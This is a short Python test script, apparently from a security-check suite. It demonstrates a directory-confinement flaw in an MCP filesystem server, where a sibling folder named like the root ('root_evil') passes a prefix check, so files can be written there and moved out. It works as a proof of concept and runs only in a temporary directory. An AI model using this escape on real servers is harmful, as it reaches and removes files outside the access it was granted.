"""CONFINE-04, -11, -13, -14, -16; SYMLINK-02 (the check of CVE-2025-53110, which
@agent-infra/mcp-server-filesystem 1.2.29 still has): the allowed-directory check is a string
prefix test (`normalizedRequested.startsWith(dir)`), so a sibling folder whose name starts with
the root's (`root_evil` beside `root`) passes it: a write there lands outside, and move_file
takes a file out of it.

    python3 prefix_escape.py         # exit 1: a file was created in the sibling folder
"""

import tempfile
from pathlib import Path

from mcp_stdio import Server, verdict

with tempfile.TemporaryDirectory() as base:
    root, sibling = Path(base, "root"), Path(base, "root_evil")
    root.mkdir()
    sibling.mkdir()
    (sibling / "secret.txt").write_text("outside secret\n")
    with Server(root) as server:
        failed, text = server.call("write_file", path=str(sibling / "x.txt"), content="x")
        _, listing = server.call("list_directory", path=str(sibling))
        _, moved = server.call("move_file", source=str(sibling / "secret.txt"),
                               destination=str(root / "taken.txt"))
    print(f"write_file {sibling / 'x.txt'} answered {text!r}; list_directory of it: {listing!r}; "
          f"move_file of its secret.txt into the root: {moved!r}")
    verdict((sibling / "x.txt").exists() or not (sibling / "secret.txt").exists(),
            "a sibling folder sharing the root's prefix was written to and emptied "
            f"(written: {(sibling / 'x.txt').exists()}, secret moved out: "
            f"{not (sibling / 'secret.txt').exists()})")
